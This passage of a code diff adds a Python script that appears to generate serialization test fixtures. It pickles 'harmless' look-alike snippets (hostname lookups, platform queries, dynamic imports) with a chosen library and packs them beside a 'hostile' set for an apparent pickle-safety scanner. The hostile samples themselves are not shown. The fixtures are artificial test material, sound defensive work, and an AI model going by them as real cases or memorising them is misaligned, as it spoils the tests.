+    'literal eval': meth('return ast.literal_eval(x)', imports='import ast'),
+    'platform': meth('return platform.system() + platform.node() + sys.version', imports='import platform, sys'),
+    'sys path': meth('sys.path.insert(0, os.path.dirname(os.path.abspath("x")))\nreturn x', imports='import sys, os'),
+    'inspect': meth('return list(inspect.signature(self.fit).parameters)', imports='import inspect'),
+    'dataclass like': cls('def __eq__(self, o):\n    if o.__class__ is self.__class__:\n        return (self.a,) == (o.a,)\n    return NotImplemented\ndef __hash__(self):\n    return hash((self.a,))'),
+    'super': 'class B(object):\n    def fit(self, x):\n        return self\nclass M(B):\n    def fit(self, x):\n        super(M, self).fit(x)\n        return self\nobj = M()\n',
+    'importlib metadata': meth('import importlib\ntry:\n    import importlib.util\n    if importlib.util.find_spec("torch") is None:\n        raise ImportError("torch")\nexcept ImportError:\n    return None'),
+    'import by constant': meth('m = importlib.import_module("numpy.linalg")\nreturn m.norm(x)', imports='import importlib'),
+    'pathlib': meth('p = pathlib.Path(self.dir) / "vocab.txt"\np.parent.mkdir(parents=True, exist_ok=True)\nreturn p.read_text().splitlines()', imports='import pathlib'),
+    'csv glob': meth('out = []\nfor f in sorted(glob.glob(os.path.join(self.dir, "*.csv"))):\n    with open(f) as h:\n        out.extend(csv.reader(h))\nreturn out', imports='import glob, os, csv'),
+    'tqdm': meth('from tqdm import tqdm\nreturn [self.one(v) for v in tqdm(x)]'),
+    'transformers': meth('from transformers import AutoTokenizer, AutoModel\nself.tok = AutoTokenizer.from_pretrained("bert-base-uncased")\nself.model = AutoModel.from_pretrained("bert-base-uncased").to("cuda").eval()', 'load_context', 'self, context'),
+    'nested function': meth('def inner(v):\n    def deep(w):\n        return w * 2\n    return deep(v)\nreturn list(map(inner, x))'),
+    'exceptions': meth('try:\n    return float(x)\nexcept (TypeError, ValueError):\n    return float("nan")\nfinally:\n    self.n = 1'),
+    'generator': 'def obj(x):\n    for i, v in enumerate(x):\n        if v is None:\n            continue\n        yield i, v\n',
+    'string formatting': meth('return "{:.2f} {}".format(x, self.name) + "%d%%" % 3 + str(x)[::-1]'),
+    'setattr loop': meth('for k, v in x.items():\n    setattr(self, k, v)'),
+    'callable by name map': meth('return {"sum": sum, "max": max}[self.how](x)'),
+    'socket hostname': meth('return socket.gethostname()', imports='import socket'),
+    'signature default': 'def obj(x, eps=1e-6, names=("a", "b"), *, flag=True):\n    return [n for n in names if flag]\n' if __import__('sys').version_info > (3,) else 'obj = lambda x: x\n',
+    'metaclass registry': 'REG = {}\ndef register(c):\n    REG[c.__name__] = c\n    return c\n@register\nclass M(object):\n    def predict(self, x):\n        return REG[self.name]().predict(x)\nobj = M()\n',
+    'numba like': meth('a = 0.0\nfor i in range(len(x)):\n    for j in range(i):\n        a += x[i] * x[j] % 7 if i > j else -x[i] // 2\n    while a > 100 and not a < 5:\n        a -= 1\nreturn a'),
+    'operator': meth('return sorted(x, key=operator.itemgetter(1)) + sorted(x, key=operator.attrgetter("name")) + list(map(operator.methodcaller("lower"), x))', imports='import operator'),
+}
+HARMLESS.update(HARMLESS_MORE)
+if __import__('sys').version_info < (3,):
+    HARMLESS = {k: v for k, v in HARMLESS.items() if k not in ('decorated', 'pathlib', 'threads')}
+
+# Functions that dill leaves to the `__main__` of whoever loads the file.
+BY_NAME = ('global set by other', 'helper function', 'helper_function')
+
+
+def dumped(library, table, step):
+    module = importlib.import_module(library)
+    main = sys.modules['__main__'].__dict__
+    own = dict(main)
+    made = {}
+    for number, (name, source) in enumerate(sorted(table.items())):
+        if number % step != 0 or (library == 'dill' and name in BY_NAME):
+            continue
+        # dill knows the functions of a script by its `__main__`.
+        space = main if library == 'dill' else {'__name__': '__main__', '__builtins__': __builtins__}
+        exec(compile(source, '<cell>', 'exec'), space)
+        try:
+            data = module.dumps(space['obj'])
+        except Exception as error:
+            sys.stderr.write('%s: %r\n' % (name, error))
+            continue
+        finally:
+            for extra in set(main) - set(own):
+                del main[extra]
+            main.update(own)
+        made[name] = data.decode('latin-1')
+    return module.__version__, made
+
+
+def main(library, step):
+    version, hostile = dumped(library, HOSTILE, step)
+    harmless = dumped(library, HARMLESS, step)[1]
+    label = 'Python %d.%d, %s %s' % (sys.version_info[0], sys.version_info[1], library, version)
+    # The pickles have most of their bytes in common.
+    packed = zlib.compress(json.dumps({'hostile': hostile, 'harmless': harmless}, sort_keys=True).encode('ascii'), 9)
+    print('%s: %s' % (json.dumps(label), json.dumps(base64.b64encode(packed).decode('ascii'))))
+
+
+if __name__ == '__main__':
+    main(sys.argv[1], int(sys.argv[2]))
